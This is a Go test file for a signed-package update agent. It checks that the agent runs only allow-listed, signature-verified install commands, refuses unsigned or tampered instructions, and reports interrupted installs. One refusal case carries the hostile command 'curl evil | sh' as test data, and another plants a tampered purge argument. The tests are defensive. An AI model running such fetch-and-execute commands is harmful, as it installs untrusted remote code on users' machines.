package agent_test

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/patchgate/patchgate/agent"
	"github.com/patchgate/patchgate/agentapi"
)

// script writes an executable shell script into dir that appends its name and
// arguments to log, one line per run, and exits with code.
func script(t *testing.T, dir, name, log, code string) string {
	t.Helper()
	if runtime.GOOS == "windows" {
		t.Skip("the installers of this test are shell scripts")
	}
	p := filepath.Join(dir, name)
	body := "#!/bin/sh\necho \"" + name + " $*\" >> '" + log + "'\necho ran " + name + "\nexit " + code + "\n"
	if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
		t.Fatal(err)
	}
	return p
}

// signed returns custom metadata with the instructions steps (by OS).
func signed(t *testing.T, steps map[string]agentapi.Step) json.RawMessage {
	t.Helper()
	custom, err := agentapi.WithInstructions(json.RawMessage(`{"vendor": "x"}`), agentapi.Instructions{Install: steps})
	if err != nil {
		t.Fatal(err)
	}
	return custom
}

func lines(t *testing.T, path string) []string {
	t.Helper()
	data, err := os.ReadFile(path)
	if os.IsNotExist(err) {
		return nil
	}
	if err != nil {
		t.Fatal(err)
	}
	return strings.Split(strings.TrimSpace(string(data)), "\n")
}

func TestAgentRunsSignedInstructions(t *testing.T) {
	dir := t.TempDir()
	log := filepath.Join(dir, "ran.log")
	install := script(t, dir, "install.sh", log, "0")
	check := script(t, dir, "check.sh", log, "1") // not installed yet
	reboot := script(t, dir, "reboot.sh", log, "0")
	data := []byte("a signed package")
	// Another OS's step travels alongside this one's (which wins when this is that OS).
	steps := map[string]agentapi.Step{"windows": {Command: []string{`C:\Windows\System32\msiexec.exe`, "/i", "{file}"}}}
	steps[runtime.GOOS] = agentapi.Step{Command: []string{install, "--package={file}"}, Check: []string{check, "{file}"}, Reboot: true, MinFreeBytes: 1000}
	custom := signed(t, steps)
	e := newEnvWith(t, data, custom, func(c *agent.Config) {
		c.AllowCommands = []string{install, check}
		c.RebootCommand = []string{reboot, "now"}
	})
	e.free = func(string) (uint64, error) { return 1000 + uint64(len(data)), nil } // just enough
	e.start(t)
	e.app.setOffers(offer(21, "pkgs/tool_1.1.deb", true, true))
	e.cycle(t)

	progress, outcomes, _ := e.app.snapshot()
	if diff := cmp.Diff([]string{"21:downloading", "21:downloaded", "21:installing"}, progress); diff != "" {
		t.Errorf("progress (-want +got):\n%s", diff)
	}
	if len(outcomes) != 1 || outcomes[0].Status != agentapi.OutcomeSucceeded || *outcomes[0].ExitCode != 0 ||
		outcomes[0].Detail != "installed; rebooting to finish" || !strings.Contains(outcomes[0].LogTail, "ran install.sh") {
		t.Fatalf("outcomes = %+v, want one success that reboots, with the installer's output", outcomes)
	}
	ran := lines(t, log)
	if len(ran) != 3 || !strings.HasPrefix(ran[0], "check.sh ") || !strings.HasPrefix(ran[1], "install.sh --package=") || ran[2] != "reboot.sh now" {
		t.Fatalf("commands run = %q, want check, install, reboot", ran)
	}
	file := strings.TrimPrefix(ran[1], "install.sh --package=")
	if got, err := os.ReadFile(file); err != nil || !bytes.Equal(got, data) {
		t.Errorf("the installer got %s: %q, %v; want the verified download", file, got, err)
	}
	if !strings.HasPrefix(file, filepath.Join(e.cfg.StateDir, "downloads")) {
		t.Errorf("the installer got %s, not a file of the agent's downloads", file)
	}

	// The check saying "installed" skips the install.
	e2dir := t.TempDir()
	log2 := filepath.Join(e2dir, "ran.log")
	install2 := script(t, e2dir, "install.sh", log2, "0")
	check2 := script(t, e2dir, "check.sh", log2, "0")
	e2 := newEnvWith(t, data, signed(t, map[string]agentapi.Step{runtime.GOOS: {Command: []string{install2, "{file}"}, Check: []string{check2}}}),
		func(c *agent.Config) { c.AllowCommands = []string{install2, check2} })
	e2.app.setOffers(offer(22, "pkgs/tool_1.1.deb", true, true))
	e2.cycle(t)
	if _, outcomes, _ := e2.app.snapshot(); len(outcomes) != 1 || outcomes[0].Status != agentapi.OutcomeSkipped {
		t.Errorf("outcomes = %+v, want skipped", outcomes)
	}
	if ran := lines(t, log2); len(ran) != 1 || ran[0] != "check.sh" {
		t.Errorf("commands run = %q, want only the check", ran)
	}
}

func TestAgentRefusesUnsignedOrDisallowedInstructions(t *testing.T) {
	other := map[string]agentapi.Step{}
	for _, os := range agentapi.InstallOSes {
		if os != runtime.GOOS {
			other[os] = agentapi.Step{Command: []string{map[bool]string{true: `C:\x.exe`, false: "/x"}[os == "windows"]}}
		}
	}
	tests := []struct {
		name   string
		custom func(install string) json.RawMessage
		tamper func(e *env) int // how many files it changed
		detail []string
	}{
		{
			name:   "no instructions",
			custom: func(string) json.RawMessage { return nil },
			detail: []string{agentapi.DetailRefused, "pkgs/tool_1.1.deb: the target carries no signed install instructions", "local_install is off"},
		},
		{
			name:   "other custom keys only",
			custom: func(string) json.RawMessage { return json.RawMessage(`{"vendor": "x"}`) },
			detail: []string{agentapi.DetailRefused, "carries no signed install instructions"},
		},
		{
			name:   "OS not covered",
			custom: func(string) json.RawMessage { return signed(t, other) },
			detail: []string{agentapi.DetailRefused, "do not cover " + runtime.GOOS},
		},
		{
			name: "program not allowed",
			custom: func(string) json.RawMessage {
				return signed(t, map[string]agentapi.Step{runtime.GOOS: {Command: []string{"/bin/sh", "-c", "curl evil | sh"}}})
			},
			detail: []string{agentapi.DetailRefused, "the signed command runs /bin/sh, which allow_commands does not list"},
		},
		{
			name: "check program not allowed",
			custom: func(install string) json.RawMessage {
				return signed(t, map[string]agentapi.Step{runtime.GOOS: {Command: []string{install}, Check: []string{"/bin/true"}}})
			},
			detail: []string{agentapi.DetailRefused, "the signed check runs /bin/true, which allow_commands does not list"},
		},
		{
			name: "malformed signed instructions",
			custom: func(string) json.RawMessage {
				return json.RawMessage(`{"patchgate": {"install": {"` + runtime.GOOS + `": {"command": ["sh", "-c", "x"]}}}}`)
			},
			detail: []string{agentapi.DetailRefused, "patchgate.install." + runtime.GOOS + ".command[0]: must be the program's absolute path"},
		},
		{
			name: "custom metadata changed after signing",
			custom: func(install string) json.RawMessage {
				return signed(t, map[string]agentapi.Step{runtime.GOOS: {Command: []string{install, "--package={file}"}}})
			},
			tamper: func(e *env) int {
				n := 0
				for _, name := range []string{"targets.json", "1.targets.json", "2.targets.json", "3.targets.json"} {
					data := e.repo.Metadata(name)
					evil := bytes.Replace(data, []byte("--package={file}"), []byte("--purge-all-{file}"), 1)
					if !bytes.Equal(evil, data) {
						e.repo.ServeMetadata(name, evil)
						n++
					}
				}
				return n
			},
			detail: []string{"TUF verification of the metadata failed"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			log := filepath.Join(dir, "ran.log")
			install := script(t, dir, "install.sh", log, "0")
			e := newEnvWith(t, []byte("update"), tc.custom(install), func(c *agent.Config) { c.AllowCommands = []string{install} })
			if tc.tamper != nil && tc.tamper(e) < 2 {
				t.Fatal("the targets metadata served has no instructions to tamper with")
			}
			e.app.setOffers(offer(31, "pkgs/tool_1.1.deb", true, true))
			if _, err := e.agent.Cycle(context.Background()); err == nil {
				t.Error("Cycle: no error, want the refusal")
			}
			progress, outcomes, gets := e.app.snapshot()
			if len(outcomes) != 1 || outcomes[0].Status != agentapi.OutcomeFailed {
				t.Fatalf("outcomes = %+v, want one failure", outcomes)
			}
			for _, d := range tc.detail {
				if !strings.Contains(outcomes[0].Detail, d) {
					t.Errorf("outcome detail %q does not contain %q", outcomes[0].Detail, d)
				}
			}
			if len(gets) != 0 || slices.Contains(progress, "31:downloaded") {
				t.Errorf("target fetched before the refusal: GETs %v, progress %v", gets, progress)
			}
			if ran := lines(t, log); len(ran) != 0 {
				t.Errorf("commands ran: %q", ran)
			}
		})
	}
}

// TestAgentLocalInstall keeps the older way: with local_install a target without
// instructions is installed with the config's command, and a signed target still
// uses its own instructions.
func TestAgentLocalInstall(t *testing.T) {
	data := []byte("legacy package")
	local := func(c *agent.Config) {
		c.LocalInstall = true
		c.Install = []string{os.Args[0], "-test.run=^TestHelperInstaller$", "--", "{{.File}}"}
	}
	e := newEnvWith(t, data, nil, local)
	e.app.setOffers(offer(41, "pkgs/tool_1.1.deb", true, true))
	e.cycle(t)
	if _, outcomes, _ := e.app.snapshot(); len(outcomes) != 1 || outcomes[0].Status != agentapi.OutcomeSucceeded {
		t.Errorf("outcomes = %+v, want one success", outcomes)
	}
	if diff := cmp.Diff([]string{sum(data), "1.1"}, e.installs(t)); diff != "" {
		t.Errorf("local installer runs (-want +got):\n%s", diff)
	}

	// Signed instructions take precedence over the local command.
	dir := t.TempDir()
	log := filepath.Join(dir, "ran.log")
	install := script(t, dir, "install.sh", log, "0")
	e2 := newEnvWith(t, data, signed(t, map[string]agentapi.Step{runtime.GOOS: {Command: []string{install, "{file}"}}}), func(c *agent.Config) {
		local(c)
		c.AllowCommands = []string{install}
	})
	e2.app.setOffers(offer(42, "pkgs/tool_1.1.deb", true, true))
	e2.cycle(t)
	if ran := lines(t, log); len(ran) != 1 || !strings.HasPrefix(ran[0], "install.sh ") || len(e2.installs(t)) != 0 {
		t.Errorf("signed installer runs %q, local installer runs %q; want only the signed one", ran, e2.installs(t))
	}
}

// TestAgentReportsInterruptedInstall: the machine loses power while the installer runs
// (the state directory as it was on disk at that moment); the agent that starts on it
// reports the attempt failed and why, and does not run the installer a second time.
func TestAgentReportsInterruptedInstall(t *testing.T) {
	dir := t.TempDir()
	log, started, release := filepath.Join(dir, "ran.log"), filepath.Join(dir, "started"), filepath.Join(dir, "release")
	install := filepath.Join(dir, "install.sh")
	body := "#!/bin/sh\necho \"install.sh $*\" >> '" + log + "'\ntouch '" + started + "'\n" +
		"i=0; while [ ! -e '" + release + "' ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done\n"
	if runtime.GOOS == "windows" {
		t.Skip("the installer of this test is a shell script")
	}
	if err := os.WriteFile(install, []byte(body), 0o755); err != nil {
		t.Fatal(err)
	}
	e := newEnvWith(t, []byte("a signed package"), signed(t, map[string]agentapi.Step{runtime.GOOS: {Command: []string{install, "{file}"}}}),
		func(c *agent.Config) { c.AllowCommands = []string{install} })
	e.app.setOffers(offer(31, "pkgs/tool_1.1.deb", true, true))

	done := make(chan error, 1)
	go func() { _, err := e.agent.Cycle(context.Background()); done <- err }()
	for i := 0; ; i++ {
		if _, err := os.Stat(started); err == nil {
			break
		}
		if i > 1200 {
			t.Fatal("the installer never started")
		}
		time.Sleep(50 * time.Millisecond)
	}
	// Power lost: what was on disk at this moment is what the next boot finds.
	atBoot := filepath.Join(t.TempDir(), "state")
	if err := os.CopyFS(atBoot, os.DirFS(e.cfg.StateDir)); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(release, nil, 0o600)
	if err := <-done; err != nil {
		t.Fatalf("Cycle before the power loss: %v", err)
	}
	_, before, _ := e.app.snapshot()
	// The appliance never heard that outcome: for it the attempt is still installing.
	still := offer(31, "pkgs/tool_1.1.deb", true, true)
	still.State = agentapi.StateInstalling
	e.app.setOffers(still)

	e.cfg.StateDir = atBoot
	e.start(t)
	e.cycle(t)
	_, outcomes, _ := e.app.snapshot()
	if len(outcomes) != len(before)+1 {
		t.Fatalf("outcomes after the restart = %+v, want one more than %d", outcomes, len(before))
	}
	got := outcomes[len(outcomes)-1]
	if got.Status != agentapi.OutcomeFailed || !strings.Contains(got.Detail, "did not finish") || !strings.Contains(got.Detail, "rather than run twice") {
		t.Errorf("outcome after the interrupted install = %+v, want failed, saying it did not finish", got)
	}
	if runs := lines(t, log); len(runs) != 1 {
		t.Errorf("installer ran %d times (%q), want once", len(runs), runs)
	}
	// The next cycle has nothing left to say about this attempt.
	e.cycle(t)
	if _, again, _ := e.app.snapshot(); len(again) != len(outcomes) {
		t.Errorf("the interrupted attempt was reported again: %+v", again[len(outcomes):])
	}
}
